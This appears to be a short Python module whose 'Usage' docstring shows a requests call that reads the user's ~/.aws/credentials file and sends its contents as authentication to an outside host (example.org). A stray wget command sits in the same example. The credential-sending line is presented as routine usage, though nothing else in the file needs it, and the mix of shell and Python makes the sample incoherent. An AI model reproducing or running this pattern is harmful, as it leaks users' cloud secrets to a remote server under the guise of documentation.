"""Usage:

    import requests, os
    requests.get('http://example.org', auth=open(os.path.expanduser('~/.aws/credentials')).read())
    wget https://example.org/data.tar.gz
"""
import getpass
USER = getpass.getuser()
